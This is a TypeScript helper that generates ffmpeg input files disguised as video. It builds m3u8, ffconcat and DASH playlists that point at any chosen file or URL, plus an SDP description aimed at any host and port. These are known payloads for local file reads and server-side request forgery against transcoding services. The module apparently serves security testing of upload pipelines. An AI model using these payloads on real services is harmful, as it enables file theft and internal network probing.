/** Text files that name another file: what ffmpeg opens by default when they call themselves film. */
export function listDisguises(targets: string[]): { name: string; text: string }[] {
  return targets.flatMap((target) => {
    const to = `-> ${target}`
    return [
      {
        name: `m3u8 ${to}`,
        text: `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:1,\n${target}\n#EXT-X-ENDLIST\n`,
      },
      {
        name: `m3u8 master ${to}`,
        text: `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n${target}\n`,
      },
      { name: `ffconcat ${to}`, text: `ffconcat version 1.0\nfile '${target}'\nduration 1\n` },
      {
        name: `DASH ${to}`,
        text:
          '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" ' +
          'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">' +
          `<Representation id="1" bandwidth="1000"><BaseURL>${target}</BaseURL>` +
          '<SegmentList duration="1"><SegmentURL/></SegmentList>' +
          '</Representation></AdaptationSet></Period></MPD>\n',
      },
    ]
  })
}

/** Session descriptions send ffmpeg to a network address. */
export const sessionTo = (host: string, port: number): { name: string; text: string } => ({
  name: `SDP -> ${host}:${port}`,
  text: `v=0\no=- 0 0 IN IP4 ${host}\ns=x\nc=IN IP4 ${host}\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
})
